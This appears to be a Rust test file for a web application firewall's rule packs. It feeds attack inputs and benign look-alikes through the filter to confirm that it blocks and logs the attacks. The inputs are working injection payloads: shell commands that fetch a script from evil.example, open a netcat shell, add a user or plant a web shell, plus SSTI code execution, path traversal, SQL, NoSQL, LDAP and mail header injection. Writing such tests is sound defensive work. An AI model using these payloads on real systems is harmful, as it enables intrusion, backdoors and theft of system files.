//! meshward's rule packs run natively through the filter's own exchange (`drive`), in enforce
//! mode: each pack stops its attacks with its own rule ids (10100-19999) and passes a benign
//! twin of each; turned off by name (`packs_off`) or under `profile: crs`, its rules do not run.

use std::rc::Rc;

use meshward_waf::drive::{self, Request, Response};
use meshward_waf::exchange::Attributes;
use meshward_waf::loaded::Loaded;

/// Where a value goes.
enum At {
    Query(&'static str),
    Form(&'static str),
    Json(&'static str),
    Cookie(&'static str),
    Path(&'static str),
}

/// Method, target, extra headers and body of a request.
type Parts<'a> = (&'a str, String, Vec<(&'a str, &'a [u8])>, &'a [u8]);

fn request(at: &At) -> Request {
    let (method, target, headers, body): Parts = match at {
        At::Query(q) => ("GET", format!("/api/items?{q}"), vec![], b""),
        At::Form(b) => (
            "POST",
            "/api/items".into(),
            vec![("content-type", b"application/x-www-form-urlencoded")],
            b.as_bytes(),
        ),
        At::Json(b) => (
            "POST",
            "/api/items".into(),
            vec![("content-type", b"application/json")],
            b.as_bytes(),
        ),
        At::Cookie(c) => ("GET", "/api/items".into(), vec![("cookie", c.as_bytes())], b""),
        At::Path(p) => ("GET", format!("/api/items/{p}"), vec![], b""),
    };
    let length = body.len().to_string();
    let mut all = vec![
        ("host", b"api.example".as_slice()),
        ("user-agent", b"pack-test".as_slice()),
    ];
    all.extend(headers);
    if !body.is_empty() {
        all.push(("content-length", length.as_bytes()));
    }
    Request::from_http1(method, &target, all, body, 16 * 1024)
}

/// (stopped, ids of the logged rules).
fn run(loaded: &Rc<Loaded>, at: &At) -> (bool, Vec<u64>) {
    let upstream = || Response::new(204, Vec::new(), Vec::new());
    let d = drive::drive(loaded.clone(), Attributes::default(), &request(at), upstream, 0).expect("default set");
    let ids = d
        .transaction
        .matched_rules()
        .iter()
        .filter(|m| m.logged)
        .map(|m| m.id)
        .collect();
    (!d.upstream_reached, ids)
}

fn load(config: &str) -> Rc<Loaded> {
    Rc::new(Loaded::load(config.as_bytes()).expect("configuration loads"))
}

/// Each pack: its name, its id range start, attacks and their benign twins.
fn cases() -> Vec<(&'static str, u64, Vec<At>, Vec<At>)> {
    vec![
        (
            "nosql",
            10300,
            vec![
                At::Query("user[$ne]=1&pass[$ne]=1"),
                At::Form("user%5B%24gt%5D=&pass=x"),
                At::Json(r#"{"user":{"$ne":null},"pass":{"$regex":".*"}}"#),
                At::Query("q=%27%20%26%26%20this.password.match(%2F.*%2F)%2F%2F"),
                At::Cookie("q=%7B%22%24where%22%3A%22sleep(100)%22%7D"),
            ],
            vec![
                At::Query("user[name]=ann&pass[0]=1"),
                At::Json(r#"{"user":{"name":"ann"},"price":"$19.99"}"#),
                At::Json(r#"{"query":"query Q($id: ID!) { order(id: $id) { id } }","variables":{"id":"1"}}"#),
                At::Cookie("q=a%20%26%26%20b"),
            ],
        ),
        (
            "ldap",
            10100,
            vec![
                At::Query("user=*)(uid=*))(|(uid=*"),
                At::Form("user=admin*)((|userPassword=*)"),
                At::Json(r#"{"user":"*(|(objectclass=*))"}"#),
                At::Query("user=%252A%2528%257C%2528mail%253D%252A%2529%2529"),
            ],
            vec![
                At::Query("user=ann*"),
                At::Form("note=see%20(above)%20and%20(below)"),
                At::Json(r#"{"user":"O'Brien (sales)"}"#),
            ],
        ),
        (
            "mail",
            10200,
            vec![
                At::Form("to=ann%40example.com%0d%0aBcc%3A%20victim%40example.org&subject=hi"),
                At::Json(r#"{"subject":"Hello\nTo: x@evil.example"}"#),
                At::Form("from=a%40example.com%0d%0aRCPT%20TO%3A%3Cv%40evil.example%3E"),
            ],
            vec![
                At::Form("to=ann%40example.com&subject=Re%3A%20your%20order&body=Hi%2C%0d%0athanks.%0d%0aAnn"),
                At::Json(r#"{"message":"Dear support,\n\nmy order has not arrived.\nThanks"}"#),
            ],
        ),
        (
            "ssti",
            10500,
            vec![
                At::Query("name=%7B%7B7*7%7D%7D"),
                At::Json(r#"{"name":"{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#),
                At::Form("name=%24%7BT(java.lang.Runtime).getRuntime().exec('id')%7D"),
                At::Query("name=%3C%25%3D%207*7%20%25%3E"),
                At::Json(r#"{"t":"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}"#),
            ],
            vec![
                At::Query("name=%7B%7Bfirst_name%7D%7D"),
                At::Json(r#"{"template":"Hello {{ user.name }}, see you at {{ event.time }}"}"#),
                At::Form("price=%2419.99%20(was%20%2424.99)"),
            ],
        ),
        (
            "shell",
            10400,
            vec![
                At::Query("host=127.0.0.1%7Cid"),
                At::Form("host=127.0.0.1%0aid"),
                At::Json(r#"{"host":"x && whoami"}"#),
                At::Query("host=%24(sleep%205)"),
                At::Cookie("host=a%3Bcat%24%7BIFS%7D%2Fetc%2Fpasswd"),
                At::Query("url=curl%20-s%20https%3A%2F%2Fevil.example%2Fx.sh"),
                At::Path("perl%20-e%20'print%201'"),
                At::Json(r#"{"cmd":"nc -lvp 4444 -e /bin/bash"}"#),
                At::Form("u=net%20user%20eve%20Secret1%20%2Fadd"),
                At::Query("f=type%20%25WINDIR%25%5Cwin.ini"),
                At::Path("ifconfig%20-a"),
                At::Json(r#"{"x":"echo hi > /var/www/shell.php"}"#),
                At::Query("x=%7B%24_POST%5B'c'%5D%7D"),
                At::Json(r#"{"host":"\\nwhoami"}"#),
                At::Query("host=1%3Bw'h'o%22%22ami"),
                At::Form("f=%2F%3F%3F%3F%2F%3F%3Ft%20x"),
                At::Query("f=%7C%2Fbin%2Fc%3Ft%20%2Fetc%2Fpa%3F%3Fwd"),
                At::Path("%60uname%20-a%60"),
            ],
            vec![
                At::Query("q=Tom%20%26%20Jerry"),
                At::Json(r#"{"note":"Use `kubectl get pods` to list them; then relax."}"#),
                At::Form("q=AT%26T%20%7C%20Verizon"),
                At::Query("q=how%20to%20use%20curl%20with%20a%20proxy"),
                At::Json(r#"{"note":"Our net user count grew; add more servers."}"#),
                At::Form("q=type%20your%20name%20here"),
                At::Query("q=What%20does%20ifconfig%20show%3F"),
                At::Json(r#"{"note":"echo the answer back, then we're done"}"#),
                At::Json(r#"{"path":"C:\\new\\notes.txt"}"#),
                At::Query("q=rock%20%26%20rock'n'roll"),
                At::Query("next=https%3A%2F%2Fexample.com%2Fsearch%3Fq%3Dabc%2Fdef"),
                At::Json(r#"{"glob":"logs/app-?.log"}"#),
            ],
        ),
        (
            "traversal",
            10600,
            vec![
                At::Query("file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
                At::Query("file=%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
                At::Path("..%255c..%255cwindows%255cwin.ini"),
                At::Json(r#"{"file":"....//....//etc/passwd"}"#),
                At::Cookie("file=%25c0%25ae%25c0%25ae%25c0%25afetc%25c0%25afpasswd"),
                At::Path("%25u2215..%25u2215etc"),
                At::Query("file=%2F.%2F%5C%2F.%2Fetc%2Fpasswd"),
            ],
            vec![
                At::Query("file=reports%2F2026%2Fsummary.pdf"),
                At::Json(r#"{"text":"Wait... what? And then..."}"#),
                At::Path("v1.2.3"),
                At::Query("file=.%2Fdocs%2F.%2Fguide.md"),
                At::Json(r#"{"dir":"C:\\Users\\Ann\\.\\app"}"#),
                At::Cookie("discount=25%25c0ffee"),
            ],
        ),
        (
            "sqli",
            10800,
            vec![
                At::Query("q=%27%20or%20%27%27%3D%27"),
                At::Form("user=admin%27--&pass=x"),
                At::Json(r#"{"id":"1 and 1=2"}"#),
                At::Query("id=1%3B%20waitfor%20delay%20%270%3A0%3A5%27--"),
                At::Cookie("q=1%20UN%2F**%2FION%20SEL%2F**%2FECT%201%2C2"),
                At::Path("1%20or%201%3D1--"),
            ],
            vec![
                At::Json(r#"{"name":"Mary-Jane O'Neil","note":"one or two, and 3 > 2 maybe"}"#),
                At::Query("q=Choose%20%27yes%27%20or%20%27no%27"),
                At::Form("note=Don%27t%20forget%3B%20select%20a%20ripe%20one%20from%20the%20shelf."),
                At::Json(r#"{"text":"It's 5 o'clock; we'll update the table later. Set it to 10/20."}"#),
                At::Query("q=a%20%3C%20b%20and%20c%20%3E%20d"),
                At::Path("rock%20and%20roll"),
            ],
        ),
        (
            "path",
            10700,
            vec![
                At::Path("1%27%20or%20%271%27%3D%271"),
                At::Path("1%20union%20select%20password%20from%20users--"),
                At::Path("%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            ],
            vec![
                At::Path("O%27Brien"),
                At::Path("2026-000123"),
                At::Path("rock%20and%20roll"),
            ],
        ),
    ]
}

fn in_pack(ids: &[u64], base: u64) -> bool {
    ids.iter().any(|id| (base..base + 100).contains(id))
}

#[test]
fn each_pack_stops_its_attacks_and_passes_their_benign_twins() {
    let mesh = load(r#"{"mode":"enforce"}"#);
    let mut wrong = Vec::new();
    for (name, base, attacks, benign) in cases() {
        for (i, a) in attacks.iter().enumerate() {
            let (stopped, ids) = run(&mesh, a);
            if !(stopped && in_pack(&ids, base)) {
                wrong.push(format!("{name} attack {i} not stopped by the pack: {ids:?}"));
            }
        }
        for (i, b) in benign.iter().enumerate() {
            let (stopped, ids) = run(&mesh, b);
            if stopped || in_pack(&ids, base) {
                wrong.push(format!("{name} benign twin {i} stopped: {ids:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_pack_turned_off_or_under_profile_crs_does_not_run() {
    let crs = load(r#"{"mode":"enforce","profile":"crs"}"#);
    for (name, base, attacks, _) in cases() {
        let off = load(&format!(r#"{{"mode":"enforce","packs_off":["{name}"]}}"#));
        for (i, a) in attacks.iter().enumerate() {
            assert!(!in_pack(&run(&off, a).1, base), "{name} attack {i}: pack off");
            assert!(!in_pack(&run(&crs, a).1, base), "{name} attack {i}: profile crs");
        }
    }
    let chosen = load(r#"{"mode":"enforce","profile":"crs","packs":["nosql"]}"#);
    assert!(
        run(&chosen, &At::Query("user[$ne]=1")).0,
        "a pack listed under profile crs runs"
    );
}

#[test]
fn packs_follow_the_paranoia_gate_and_evidence_names_the_pack() {
    let mesh = load(r#"{"mode":"enforce"}"#);
    let upstream = || Response::new(204, Vec::new(), Vec::new());
    let d = drive::drive(
        mesh.clone(),
        Attributes::default(),
        &request(&At::Query("user[$ne]=1")),
        upstream,
        0,
    )
    .unwrap();
    let event = d.finish.event.expect("an event for the block");
    let rule = event
        .rules
        .iter()
        .find(|r| r.id == 10310)
        .expect("rule 10310 in the evidence");
    assert!(rule.tags.iter().any(|t| t == "meshward-pack/nosql"), "{:?}", rule.tags);
    assert!(rule.tags.iter().any(|t| t == "attack-nosql"), "{:?}", rule.tags);
    assert!(rule.msg.contains("NoSQL Injection"), "{}", rule.msg);
    assert!(rule.logdata.contains("user[$ne]"), "{}", rule.logdata);
    for (_, base, _, _) in cases() {
        assert!(mesh.sets.get("default").unwrap().has_rule(base), "gate rule {base}");
    }
}
